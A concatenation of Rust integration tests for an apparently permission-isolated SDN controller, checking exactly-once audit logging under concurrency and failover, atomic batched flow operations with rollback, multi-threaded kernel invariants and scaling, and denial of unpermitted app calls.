            .register_app(*app, &format!("writer-{}", app.0), &priv_manifest())
            .unwrap();
    }
    let baseline = kernel.audit_records().len() as u64;

    let stop = Arc::new(AtomicBool::new(false));
    std::thread::scope(|s| {
        for (t, app) in apps.iter().enumerate() {
            let kernel = Arc::clone(&kernel);
            let app = *app;
            s.spawn(move || {
                let own = t as u64 + 2;
                for i in 0..PER_THREAD {
                    let call = if i % 4 == 3 {
                        read_call(app, own)
                    } else {
                        insert_call(app, (i % 4096) as u16 + 1, own)
                    };
                    kernel.execute(&call).0.expect("permissioned call");
                }
            });
        }
        for _ in 0..2 {
            let kernel = Arc::clone(&kernel);
            let stop = Arc::clone(&stop);
            s.spawn(move || {
                // Exactly-once tail: every batch must start right after the
                // previous cursor and be internally contiguous.
                let mut cursor = 0u64;
                let mut pulled = 0u64;
                loop {
                    let batch = kernel.audit_records_since(cursor);
                    if let Some(first) = batch.first() {
                        assert_eq!(
                            first.seq,
                            cursor + 1,
                            "cursor tail must resume without a gap"
                        );
                        assert_contiguous(&batch, "cursor tail");
                        cursor = batch.last().unwrap().seq;
                        pulled += batch.len() as u64;
                    } else if stop.load(Ordering::Acquire) {
                        break;
                    } else {
                        std::thread::yield_now();
                    }
                }
                assert!(pulled > 0, "reader made progress during the storm");
            });
        }
        // Release the readers once every writer call is provably audited.
        let total = baseline + (THREADS * PER_THREAD) as u64;
        let deadline = Instant::now() + Duration::from_secs(30);
        while (kernel.audit_records().len() as u64) < total {
            assert!(Instant::now() < deadline, "audit storm did not complete");
            std::thread::sleep(Duration::from_millis(1));
        }
        stop.store(true, Ordering::Release);
    });

    let records = kernel.audit_records();
    assert_eq!(
        records.len(),
        baseline as usize + THREADS * PER_THREAD,
        "exactly one audit record per executed call"
    );
    assert_contiguous(&records, "final log");
    assert_eq!(records.first().map(|r| r.seq), Some(1));
    assert!(records.iter().all(|r| r.outcome != AuditOutcome::Denied));
}

/// Warm-standby failover mid-storm loses no audit records: every
/// acknowledged insert appears exactly once as a non-replay record — on the
/// sealed old primary's log or the promoted kernel's log — and both logs
/// stay gap-free across the seal/catch-up/publish window.
#[test]
fn promote_preserves_audit_trail_across_failover() {
    const THREADS: u64 = 4;
    const PER_THREAD: u64 = 150;

    let c = ShieldedController::new(Network::new(builders::linear(2), 16_384), 2);
    let journal = Arc::new(Journal::in_memory());
    c.attach_journal(Arc::clone(&journal));
    c.kernel()
        .register_app(PRIV, "driver", &priv_manifest())
        .unwrap();
    let old = c.kernel();

    let standby = Arc::new(WarmStandby::new(
        Network::new(builders::linear(2), 16_384),
        &c.snapshot(),
        Arc::clone(&journal),
    ));

    let acked: Arc<Mutex<Vec<u16>>> = Arc::new(Mutex::new(Vec::new()));
    let cell = c.kernel_cell();
    let submitters: Vec<_> = (0..THREADS)
        .map(|t| {
            let cell = Arc::clone(&cell);
            let acked = Arc::clone(&acked);
            std::thread::spawn(move || {
                for i in 0..PER_THREAD {
                    let tp = (t * 1000 + i + 1) as u16;
                    loop {
                        let kernel = cell.load();
                        match kernel.execute(&insert_call(PRIV, tp, 1)).0 {
                            Ok(_) => {
                                acked.lock().unwrap().push(tp);
                                break;
                            }
                            // Raced the seal — the old primary refused the
                            // command un-applied and un-audited; retry on
                            // the promoted kernel.
                            Err(ApiError::Shutdown) => std::thread::yield_now(),
                            Err(e) => panic!("unexpected error: {e:?}"),
                        }
                    }
                }
            })
        })
        .collect();

    for _ in 0..5 {
        standby.catch_up();
        std::thread::yield_now();
    }
    let promoted = c.promote(&standby);
    for t in submitters {
        t.join().unwrap();
    }

    let acked = acked.lock().unwrap().clone();
    assert_eq!(acked.len() as u64, THREADS * PER_THREAD);
    assert!(Arc::ptr_eq(&c.kernel(), &promoted));

    // The sealed primary's ring was fully drained into its segmented store:
    // its log is gap-free from seq 1 with no shed or evicted records.
    let old_records = old.audit_records();
    assert_contiguous(&old_records, "sealed primary");
    assert_eq!(old_records.first().map(|r| r.seq), Some(1));

    // The promoted kernel's numbering extends the snapshot watermark it was
    // seeded with — contiguous, and disjoint from nothing (replay records
    // are tagged, originals live on the old log).
    let new_records = promoted.audit_records();
    assert_contiguous(&new_records, "promoted kernel");

    // Zero loss, zero double-count: each acknowledged insert was executed
    // exactly once, so exactly one *non-replay* insert_flow record exists
    // across the two logs.
    let originals = |records: &[sdnshield_controller::audit::AuditRecord]| {
        records
            .iter()
            .filter(|r| r.operation == "insert_flow" && r.outcome == AuditOutcome::Allowed)
            .count() as u64
    };
    let replays = new_records
        .iter()
        .filter(|r| r.operation == "replay:insert_flow")
        .count() as u64;
    assert_eq!(
        originals(&old_records) + originals(&new_records),
        THREADS * PER_THREAD,
        "every acknowledged call audited exactly once (plus {replays} tagged replays)"
    );
    // Replays re-derive only commands the old primary already audited.
    assert!(replays <= originals(&old_records));

    // Flow-table spot check, mirroring the recovery suite: the audit claim
    // above is about the trail, this one about effects.
    for tp in acked.iter().take(32) {
        let (result, _) = promoted.execute(&ApiCall::new(
            PRIV,
            ApiCallKind::ReadFlowTable {
                dpid: DatapathId(1),
                query: FlowMatch::default().with_tp_dst(*tp),
            },
        ));
        match result {
            Ok(ApiResponse::FlowEntries(entries)) => assert_eq!(entries.len(), 1),
            other => panic!("read failed for tp_dst={tp}: {other:?}"),
        }
    }
    c.shutdown();
}

/// The same exactly-once audit discipline, re-proved on the group-commit
/// write pipeline (DESIGN.md §16): a journaled kernel with single-writer
/// switch lanes forced on. The combiner audits each batched command in
/// commit order with per-record watermarks, so a concurrent storm must
/// still leave one gap-free record per executed call — forensics cannot
/// tell a combined command from a serially-submitted one.
#[test]
fn group_commit_storm_audits_every_call_exactly_once() {
    const THREADS: usize = 4;
    const PER_THREAD: usize = 300;

    let kernel = Arc::new(Kernel::new(
        Network::new(builders::linear(THREADS + 1), 16_384),
        true,
    ));
    let journal = Arc::new(Journal::in_memory());
    kernel.attach_journal(Arc::clone(&journal));
    kernel.set_switch_lanes(2, false);
    let apps: Vec<AppId> = (1..=THREADS as u16).map(AppId).collect();
    for app in &apps {
        kernel
            .register_app(*app, &format!("writer-{}", app.0), &priv_manifest())
            .unwrap();
    }
    let baseline = kernel.audit_records().len() as u64;

    let stop = Arc::new(AtomicBool::new(false));
    std::thread::scope(|s| {
        for (t, app) in apps.iter().enumerate() {
            let kernel = Arc::clone(&kernel);
            let app = *app;
            s.spawn(move || {
                let own = t as u64 + 2;
                for i in 0..PER_THREAD {
                    let call = if i % 4 == 3 {
                        read_call(app, own)
                    } else {
                        insert_call(app, (i % 4096) as u16 + 1, own)
                    };
                    kernel.execute(&call).0.expect("permissioned call");
                }
            });
        }
        // An exactly-once cursor tails the log while the combiner batches.
        let cursor_kernel = Arc::clone(&kernel);
        let cursor_stop = Arc::clone(&stop);
        s.spawn(move || {
            let mut cursor = 0u64;
            loop {
                let batch = cursor_kernel.audit_records_since(cursor);
                if let Some(first) = batch.first() {
                    assert_eq!(first.seq, cursor + 1, "cursor resumes without a gap");
                    assert_contiguous(&batch, "group-commit cursor tail");
                    cursor = batch.last().unwrap().seq;
                } else if cursor_stop.load(Ordering::Acquire) {
                    break;
                } else {
                    std::thread::yield_now();
                }
            }
        });
        // Writers joined when the inner spawns drop out of scope — but the
        // cursor needs the stop flag; raise it from a watcher thread once
        // the expected record count lands.
        let watcher_kernel = Arc::clone(&kernel);
        let watcher_stop = Arc::clone(&stop);
        s.spawn(move || {
            let total = baseline + (THREADS * PER_THREAD) as u64;
            let deadline = Instant::now() + Duration::from_secs(30);
            while (watcher_kernel.audit_records().len() as u64) < total {
                assert!(Instant::now() < deadline, "audit records stalled");
                std::thread::sleep(Duration::from_millis(1));
            }
            watcher_stop.store(true, Ordering::Release);
        });
    });

    let records = kernel.audit_records();
    assert_eq!(
        records.len() as u64,
        baseline + (THREADS * PER_THREAD) as u64,
        "one audit record per executed call, combined or not"
    );
    assert_contiguous(&records, "group-commit storm");
    // The journal agrees call-for-call: every journaled record carries the
    // audit watermark observed right after its own apply, so watermarks
    // are non-decreasing in commit order even across batched appends.
    let journal_records = journal.records_since(0);
    assert_eq!(
        journal_records.len(),
        THREADS + THREADS * PER_THREAD,
        "registrations + every call journaled"
    );
    for pair in journal_records.windows(2) {
        assert!(
            pair[1].audit_seq_after >= pair[0].audit_seq_after,
            "per-record audit watermarks must be monotone in commit order"
        );
    }
}
