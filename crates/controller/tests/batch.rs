//! The batched deputy API end-to-end: `AppCtx::submit_batch` moves N flow
//! operations across the app→KSD channel in one crossing, checks them under
//! a single engine snapshot, and applies them atomically (rollback on any
//! failure). Also covers the kernel-level `execute_batch` entry point and
//! the context-epoch plumbing that invalidates engine decision caches.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use sdnshield_controller::api::{ApiError, FlowOp};
use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::audit::AuditOutcome;
use sdnshield_controller::isolation::ShieldedController;
use sdnshield_controller::kernel::Kernel;
use sdnshield_core::api::AppId;
use sdnshield_core::lang::parse_manifest;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::{FlowMatch, MaskedIpv4};
use sdnshield_openflow::messages::FlowMod;
use sdnshield_openflow::types::{DatapathId, Ipv4, PortNo, Priority};

const BATCH: usize = 64;

fn op(dpid: u64, third_octet: u8, tp_dst: u16) -> FlowOp {
    FlowOp {
        dpid: DatapathId(dpid),
        flow_mod: FlowMod::add(
            FlowMatch {
                ip_dst: Some(MaskedIpv4::prefix(Ipv4::new(10, 13, third_octet, 0), 24)),
                ..FlowMatch::default()
            }
            .with_tp_dst(tp_dst),
            Priority(100),
            ActionList::output(PortNo(1)),
        ),
    }
}

/// Pushes one batch from on_start and records the outcome.
struct BatchApp {
    ops: Vec<FlowOp>,
    applied: Arc<AtomicUsize>,
    aborted: Arc<AtomicUsize>,
}

impl App for BatchApp {
    fn name(&self) -> &str {
        "batcher"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        match ctx.submit_batch(std::mem::take(&mut self.ops)) {
            Ok(n) => {
                self.applied.fetch_add(n, Ordering::SeqCst);
            }
            Err(ApiError::TransactionAborted { failed_index, .. }) => {
                self.aborted.store(failed_index + 1, Ordering::SeqCst);
            }
            Err(e) => panic!("unexpected batch error: {e:?}"),
        }
    }
}

#[test]
fn submit_batch_applies_all_ops_in_one_crossing() {
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 2);
    let applied = Arc::new(AtomicUsize::new(0));
    let aborted = Arc::new(AtomicUsize::new(0));
    let ops: Vec<FlowOp> = (0..BATCH).map(|i| op(1, i as u8, 80 + i as u16)).collect();
    c.register(
        Box::new(BatchApp {
            ops,
            applied: Arc::clone(&applied),
            aborted: Arc::clone(&aborted),
        }),
        &parse_manifest("PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0").unwrap(),
    )
    .unwrap();
    assert_eq!(applied.load(Ordering::SeqCst), BATCH);
    assert_eq!(aborted.load(Ordering::SeqCst), 0);
    assert_eq!(c.kernel().flow_count(DatapathId(1)), BATCH);
    // The whole batch produced exactly one audit record.
    let batch_records: Vec<_> = c
        .kernel()
        .audit_records_since(0)
        .into_iter()
        .filter(|r| r.operation == "batch")
        .collect();
    assert_eq!(batch_records.len(), 1);
    assert_eq!(batch_records[0].outcome, AuditOutcome::Allowed);
    c.shutdown();
}

#[test]
fn denied_op_aborts_whole_batch_atomically() {
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 2);
    let applied = Arc::new(AtomicUsize::new(0));
    let aborted = Arc::new(AtomicUsize::new(0));
    // Op 40 escapes the granted 10.13.0.0/16 flow space.
    let mut ops: Vec<FlowOp> = (0..BATCH).map(|i| op(1, i as u8, 80 + i as u16)).collect();
    ops[40].flow_mod.flow_match.ip_dst = Some(MaskedIpv4::prefix(Ipv4::new(172, 31, 0, 0), 16));
    c.register(
        Box::new(BatchApp {
            ops,
            applied: Arc::clone(&applied),
            aborted: Arc::clone(&aborted),
        }),
        &parse_manifest("PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0").unwrap(),
    )
    .unwrap();
    assert_eq!(applied.load(Ordering::SeqCst), 0);
    assert_eq!(aborted.load(Ordering::SeqCst), 41, "failed_index == 40");
    assert_eq!(
        c.kernel().flow_count(DatapathId(1)),
        0,
        "denial mid-batch must apply nothing"
    );
    let audit = c.kernel().audit_records_since(0);
    assert!(audit
        .iter()
        .any(|r| r.operation == "batch" && r.outcome == AuditOutcome::Denied));
    c.shutdown();
}

#[test]
fn switch_error_rolls_back_applied_prefix() {
    let kernel = Kernel::new(Network::new(builders::linear(2), 1024), true);
    let app = AppId(1);
    kernel
        .register_app(app, "batcher", &parse_manifest("PERM insert_flow").unwrap())
        .unwrap();
    // Middle op targets a switch that does not exist: the two already-applied
    // ops must be rolled back.
    let ops = vec![op(1, 1, 81), op(2, 2, 82), op(99, 3, 83), op(1, 4, 84)];
    let (result, events) = kernel.execute_batch(app, &ops);
    match result {
        Err(ApiError::TransactionAborted { failed_index, .. }) => assert_eq!(failed_index, 2),
        other => panic!("expected abort, got {other:?}"),
    }
    assert!(events.is_empty());
    assert_eq!(kernel.flow_count(DatapathId(1)), 0);
    assert_eq!(kernel.flow_count(DatapathId(2)), 0);
}

#[test]
fn context_epoch_advances_with_tracker_mutations() {
    let kernel = Kernel::new(Network::new(builders::linear(2), 1024), true);
    let app = AppId(1);
    kernel
        .register_app(app, "batcher", &parse_manifest("PERM insert_flow").unwrap())
        .unwrap();
    let e0 = kernel.context_epoch();
    let (result, _) = kernel.execute_batch(app, &[op(1, 1, 81), op(1, 2, 82)]);
    result.unwrap();
    let e1 = kernel.context_epoch();
    assert_ne!(e0, e1, "recorded flow-mods must advance the epoch");
    // A pure read leaves the epoch alone.
    let _ = kernel.flow_count(DatapathId(1));
    assert_eq!(kernel.context_epoch(), e1);
}
