//! Multi-threaded kernel invariants under deputy contention: 8 threads
//! hammering the decomposed kernel must lose no flows and keep the audit
//! sequence monotone and complete, whether the threads work disjoint
//! switches (no shared shard) or overlap on one switch (full contention).
//!
//! The `#[ignore]`d tier-2 test at the bottom asserts the paper's §IX-B2
//! scaling claim end-to-end (≥1.5× throughput from 1 → 4 deputies); it needs
//! real hardware parallelism, so it does not run in single-core CI.

use std::sync::Arc;
use std::time::Instant;

use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_controller::isolation::{ControllerConfig, ShieldedController};
use sdnshield_controller::journal::Journal;
use sdnshield_controller::kernel::Kernel;
use sdnshield_core::api::{ApiCall, ApiCallKind, AppId, EventKind};
use sdnshield_core::lang::parse_manifest;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::{
    FlowMod, FlowModCommand, PacketIn, PacketInReason, StatsRequest,
};
use sdnshield_openflow::types::{BufferId, DatapathId, PortNo, Priority};

const THREADS: usize = 8;
const CALLS_PER_THREAD: usize = 250;

/// A kernel with one registered flow-writing app per worker thread.
fn kernel_with_apps(num_switches: usize) -> (Arc<Kernel>, Vec<AppId>) {
    let kernel = Arc::new(Kernel::new(
        Network::new(builders::linear(num_switches), 1_000_000),
        true,
    ));
    let manifest = parse_manifest("PERM insert_flow\nPERM read_flow_table").unwrap();
    let apps: Vec<AppId> = (1..=THREADS as u16).map(AppId).collect();
    for app in &apps {
        kernel
            .register_app(*app, &format!("worker-{}", app.0), &manifest)
            .unwrap();
    }
    (kernel, apps)
}

fn insert(app: AppId, dpid: DatapathId, tp_dst: u16) -> ApiCall {
    ApiCall::new(
        app,
        ApiCallKind::InsertFlow {
            dpid,
            flow_mod: FlowMod::add(
                FlowMatch::default().with_tp_dst(tp_dst),
                Priority(100),
                ActionList::output(PortNo(1)),
            ),
        },
    )
}

/// Audit invariant shared by both stress shapes: sequence numbers are
/// monotone, gap-free, and account for every issued call.
fn assert_audit_complete(kernel: &Kernel, expected_calls: u64) {
    let records = kernel.audit_records_since(0);
    assert_eq!(
        records.len() as u64,
        expected_calls,
        "every call audited exactly once"
    );
    for (i, r) in records.iter().enumerate() {
        assert_eq!(r.seq, i as u64 + 1, "audit seq monotone and gap-free");
    }
}

#[test]
fn disjoint_switches_lose_no_flows() {
    // One switch per thread: threads never share a flow-table shard.
    let (kernel, apps) = kernel_with_apps(THREADS);
    std::thread::scope(|s| {
        for (t, app) in apps.iter().enumerate() {
            let kernel = Arc::clone(&kernel);
            let app = *app;
            s.spawn(move || {
                let dpid = DatapathId(t as u64 + 1);
                for i in 0..CALLS_PER_THREAD {
                    let (res, _) = kernel.execute(&insert(app, dpid, i as u16 + 1));
                    res.unwrap();
                }
            });
        }
    });
    for (t, app) in apps.iter().enumerate() {
        let dpid = DatapathId(t as u64 + 1);
        let owned = kernel.with_network(|n| n.switch(dpid).unwrap().table().count_owned_by(app.0));
        assert_eq!(owned, CALLS_PER_THREAD, "no lost flows on {dpid}");
    }
    assert_audit_complete(&kernel, (THREADS * CALLS_PER_THREAD) as u64);
}

#[test]
fn overlapping_switch_keeps_per_app_flows_intact() {
    // All threads hammer switch 1; distinct (app, tp_dst) identities mean
    // every insert must survive even under full shard contention.
    let (kernel, apps) = kernel_with_apps(2);
    let dpid = DatapathId(1);
    std::thread::scope(|s| {
        for (t, app) in apps.iter().enumerate() {
            let kernel = Arc::clone(&kernel);
            let app = *app;
            s.spawn(move || {
                for i in 0..CALLS_PER_THREAD {
                    // Unique match per (thread, i) so entries never collide.
                    let tp = (t * CALLS_PER_THREAD + i) as u16 + 1;
                    let (res, _) = kernel.execute(&insert(app, dpid, tp));
                    res.unwrap();
                }
            });
        }
    });
    let table_len = kernel.flow_count(dpid);
    assert_eq!(table_len, THREADS * CALLS_PER_THREAD, "no lost flows");
    for app in &apps {
        let owned = kernel.with_network(|n| n.switch(dpid).unwrap().table().count_owned_by(app.0));
        assert_eq!(owned, CALLS_PER_THREAD, "per-app ownership intact");
    }
    assert_audit_complete(&kernel, (THREADS * CALLS_PER_THREAD) as u64);
}

#[test]
fn mixed_readers_and_writers_stay_consistent() {
    // Writers insert while readers sweep the same switches with
    // read_flow_table; reads must never observe torn state (panics/errors)
    // and writes must all land.
    let (kernel, apps) = kernel_with_apps(4);
    let writers = &apps[..4];
    let readers = &apps[4..];
    std::thread::scope(|s| {
        for (t, app) in writers.iter().enumerate() {
            let kernel = Arc::clone(&kernel);
            let app = *app;
            s.spawn(move || {
                let dpid = DatapathId(t as u64 + 1);
                for i in 0..CALLS_PER_THREAD {
                    kernel.execute(&insert(app, dpid, i as u16 + 1)).0.unwrap();
                }
            });
        }
        for (t, app) in readers.iter().enumerate() {
            let kernel = Arc::clone(&kernel);
            let app = *app;
            s.spawn(move || {
                let dpid = DatapathId((t % 4) as u64 + 1);
                for _ in 0..CALLS_PER_THREAD {
                    let call = ApiCall::new(
                        app,
                        ApiCallKind::ReadFlowTable {
                            dpid,
                            query: FlowMatch::any(),
                        },
                    );
                    kernel.execute(&call).0.unwrap();
                }
            });
        }
    });
    for (t, app) in writers.iter().enumerate() {
        let dpid = DatapathId(t as u64 + 1);
        let owned = kernel.with_network(|n| n.switch(dpid).unwrap().table().count_owned_by(app.0));
        assert_eq!(owned, CALLS_PER_THREAD);
    }
    assert_audit_complete(&kernel, (THREADS * CALLS_PER_THREAD) as u64);
}

/// One flow insertion per packet-in — the end-to-end scaling workload.
struct Inserter {
    counter: u16,
}

impl App for Inserter {
    fn name(&self) -> &str {
        "inserter"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn).expect("subscribe");
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        let Event::PacketIn { dpid, .. } = event else {
            return;
        };
        self.counter = self.counter.wrapping_add(1);
        let fm = FlowMod::add(
            FlowMatch::default().with_tp_dst(1 + (self.counter % 1024)),
            Priority(100),
            ActionList::output(PortNo(1)),
        );
        let _ = ctx.insert_flow(*dpid, fm);
    }
}

fn end_to_end_throughput(deputies: usize, events: usize) -> f64 {
    let c = ShieldedController::new_with_config(
        Network::new(builders::linear(4), 1_000_000),
        ControllerConfig {
            num_deputies: deputies,
            app_queue_capacity: events + 64,
            ..ControllerConfig::default()
        },
    );
    let manifest = parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap();
    for _ in 0..4 {
        c.register(Box::new(Inserter { counter: 0 }), &manifest)
            .unwrap();
    }
    let mk_pi = |i: usize| PacketIn {
        buffer_id: BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: PacketInReason::NoMatch,
        payload: bytes::Bytes::from(vec![i as u8; 8]),
    };
    // Warmup.
    for i in 0..32 {
        c.deliver_packet_in_nowait(DatapathId(i % 4 + 1), mk_pi(i as usize));
    }
    c.quiesce();
    let t = Instant::now();
    for i in 0..events {
        c.deliver_packet_in_nowait(DatapathId((i % 4) as u64 + 1), mk_pi(i));
    }
    c.quiesce();
    let elapsed = t.elapsed().as_secs_f64();
    c.shutdown();
    events as f64 / elapsed
}

/// Tier-2 (run explicitly with `cargo test -- --ignored` on a multi-core
/// host): the sharded kernel must scale end-to-end event throughput by
/// ≥1.5× from 1 to 4 deputies. Meaningless on single-core CI runners —
/// threads cannot run concurrently there — hence ignored by default.
#[test]
#[ignore = "tier-2 scaling assertion; needs >= 4 hardware threads"]
fn four_deputies_beat_one_by_1_5x() {
    let parallelism = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    assert!(
        parallelism >= 4,
        "host has {parallelism} hardware threads; scaling cannot materialize"
    );
    let events = 2_000;
    let one = end_to_end_throughput(1, events);
    let four = end_to_end_throughput(4, events);
    assert!(
        four >= 1.5 * one,
        "4 deputies: {four:.0} ev/s, 1 deputy: {one:.0} ev/s — speedup {:.2}x < 1.5x",
        four / one
    );
}

/// The i-th call of the fig9 mixed workload: 4 inserts, 2 flow-table reads,
/// 1 stats read, 1 strict delete per 8 calls, every 8th call hitting the
/// shared switch 1 (mirrors `sdnshield_bench::contention::build_call`).
fn mixed_call(app: AppId, own: DatapathId, i: usize) -> ApiCall {
    // Shared-switch inserts salt the match identity per app (same scheme
    // as the bench) so threads contend on the shard lock instead of
    // replacing each other's entries.
    let shared = i % 8 == 7;
    let tp = if shared {
        (i % 4096) as u16 + 1 + (app.0 - 1) * 4096
    } else {
        (i % 4096) as u16 + 1
    };
    let dpid = if shared { DatapathId(1) } else { own };
    let mk_insert = || {
        FlowMod::add(
            FlowMatch::default().with_tp_dst(tp),
            Priority(100),
            ActionList::output(PortNo(1)),
        )
    };
    let kind = match i % 8 {
        0 | 2 | 4 | 7 => ApiCallKind::InsertFlow {
            dpid,
            flow_mod: mk_insert(),
        },
        1 | 5 => ApiCallKind::ReadFlowTable {
            dpid,
            query: FlowMatch::any(),
        },
        3 => ApiCallKind::ReadStatistics {
            dpid,
            request: StatsRequest::Table,
        },
        _ => {
            let mut fm = mk_insert();
            fm.command = FlowModCommand::DeleteStrict;
            ApiCallKind::DeleteFlow { dpid, flow_mod: fm }
        }
    };
    ApiCall::new(app, kind)
}

/// Mixed-workload calls/sec with `deputies` threads driving the kernel.
/// With `fast_reads`, read calls take the lock-free RCU fast lane on the
/// issuing thread (the production `read_fast_path` shape), falling back to
/// the mediated path on epoch races.
fn mixed_throughput(
    kernel: &Arc<Kernel>,
    apps: &[AppId],
    deputies: usize,
    calls: usize,
    fast_reads: bool,
) -> f64 {
    let t = Instant::now();
    std::thread::scope(|s| {
        for (t, app) in apps.iter().take(deputies).enumerate() {
            let kernel = Arc::clone(kernel);
            let app = *app;
            s.spawn(move || {
                let own = DatapathId(t as u64 + 2);
                for i in 0..calls {
                    let call = mixed_call(app, own, i);
                    if fast_reads {
                        if let Some(res) = kernel.try_serve_read(&call) {
                            res.unwrap();
                            continue;
                        }
                    }
                    kernel.execute(&call).0.unwrap();
                }
            });
        }
    });
    (deputies * calls) as f64 / t.elapsed().as_secs_f64()
}

/// Builds the journaled, lane-enabled kernel the tier-2 mixed gate runs
/// against: writes go through the flat-combining group commit with batched
/// journal appends and single-writer switch lanes (DESIGN.md §16).
fn group_commit_kernel() -> (Arc<Kernel>, Vec<AppId>, Arc<Journal>) {
    // Switch 1 is shared; switches 2..=5 are the four deputies' own.
    let kernel = Arc::new(Kernel::new(
        Network::new(builders::linear(5), 1_000_000),
        true,
    ));
    let journal = Arc::new(Journal::in_memory());
    kernel.attach_journal(Arc::clone(&journal));
    kernel.set_switch_lanes(4, false);
    let manifest = parse_manifest(
        "PERM insert_flow\nPERM delete_flow\nPERM read_flow_table\nPERM read_statistics",
    )
    .unwrap();
    let apps: Vec<AppId> = (1..=4).map(AppId).collect();
    for app in &apps {
        kernel
            .register_app(*app, &format!("mixed-{}", app.0), &manifest)
            .unwrap();
    }
    (kernel, apps, journal)
}

/// Tier-2 companion to [`four_deputies_beat_one_by_1_5x`] for the *mixed*
/// read/write workload, measured on the production write pipeline: a
/// journaled kernel whose contended submits run the flat-combining group
/// commit (batched journal appends, single-writer switch lanes) while the
/// 3-in-8 read calls ride the lock-free RCU fast lane. This is the fig9
/// `group_commit` series, and it must scale ≥1.5× from 1 to 4 deputies.
/// Ignored by default — single-core CI cannot exhibit scaling.
#[test]
#[ignore = "tier-2 scaling assertion; needs >= 4 hardware threads"]
fn mixed_workload_scales_1p5x_at_4_deputies() {
    let parallelism = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    assert!(
        parallelism >= 4,
        "host has {parallelism} hardware threads; scaling cannot materialize"
    );
    let calls = 10_000;
    // Fresh kernel per measured batch so every row sees the same
    // table-size trajectory (a shared kernel would hand later rows the
    // tables earlier rows populated, understating their throughput).
    let best = |deputies: usize| {
        (0..3)
            .map(|_| {
                let (kernel, apps, journal) = group_commit_kernel();
                mixed_throughput(&kernel, &apps, deputies, 512, true); // warmup
                let cps = mixed_throughput(&kernel, &apps, deputies, calls, true);
                journal.compact(journal.last_seq());
                let stats = kernel.combiner_stats();
                assert!(stats.submitted > 0, "writes route through the combiner");
                cps
            })
            .fold(f64::MIN, f64::max)
    };
    let one = best(1);
    let four = best(4);
    assert!(
        four >= 1.5 * one,
        "4 deputies: {four:.0} calls/s, 1 deputy: {one:.0} calls/s — speedup {:.2}x < 1.5x",
        four / one
    );
}
