//! End-to-end tests of the thread-isolated SDNShield controller: apps on
//! their own threads, deputies checking and executing calls, events flowing
//! through channels.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use bytes::Bytes;
use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_controller::isolation::{RegisterError, ShieldedController};
use sdnshield_core::api::EventKind;
use sdnshield_core::lang::parse_manifest;
use sdnshield_core::token::PermissionToken;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::{FlowMod, PacketIn, PacketInReason};
use sdnshield_openflow::types::{BufferId, DatapathId, PortNo, Priority};

fn controller() -> ShieldedController {
    ShieldedController::new(Network::new(builders::linear(3), 1024), 4)
}

fn pi(payload: &'static [u8]) -> PacketIn {
    PacketIn {
        buffer_id: BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: PacketInReason::NoMatch,
        payload: Bytes::from_static(payload),
    }
}

/// Installs one rule per packet-in and counts its denials.
struct Reactor {
    denials: Arc<AtomicUsize>,
    installs: Arc<AtomicUsize>,
}

impl App for Reactor {
    fn name(&self) -> &str {
        "reactor"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn).expect("subscribe");
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        if let Event::PacketIn { dpid, .. } = event {
            let result = ctx.insert_flow(
                *dpid,
                FlowMod::add(
                    FlowMatch::default().with_tp_dst(80),
                    Priority(10),
                    ActionList::output(PortNo(1)),
                ),
            );
            match result {
                Ok(()) => self.installs.fetch_add(1, Ordering::SeqCst),
                Err(_) => self.denials.fetch_add(1, Ordering::SeqCst),
            };
        }
    }
}

#[test]
fn permitted_app_installs_rules_through_deputies() {
    let c = controller();
    let installs = Arc::new(AtomicUsize::new(0));
    let denials = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Reactor {
            denials: Arc::clone(&denials),
            installs: Arc::clone(&installs),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
    )
    .unwrap();
    for _ in 0..5 {
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
    }
    assert_eq!(installs.load(Ordering::SeqCst), 5);
    assert_eq!(denials.load(Ordering::SeqCst), 0);
    assert_eq!(
        c.kernel().flow_count(DatapathId(1)),
        1,
        "same rule re-added"
    );
    c.shutdown();
}

#[test]
fn unpermitted_insert_denied_but_app_survives() {
    let c = controller();
    let installs = Arc::new(AtomicUsize::new(0));
    let denials = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Reactor {
            denials: Arc::clone(&denials),
            installs: Arc::clone(&installs),
        }),
        &parse_manifest("PERM pkt_in_event").unwrap(),
    )
    .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"x"));
    c.deliver_packet_in(DatapathId(1), pi(b"y"));
    assert_eq!(denials.load(Ordering::SeqCst), 2);
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 0);
    // Audit captured the denials.
    let audit = c.kernel().audit_records_since(0);
    assert!(audit
        .iter()
        .any(|r| r.token == Some(PermissionToken::InsertFlow)));
    c.shutdown();
}

#[test]
fn loading_time_check_rejects_apps_missing_required_tokens() {
    struct Needy;
    impl App for Needy {
        fn name(&self) -> &str {
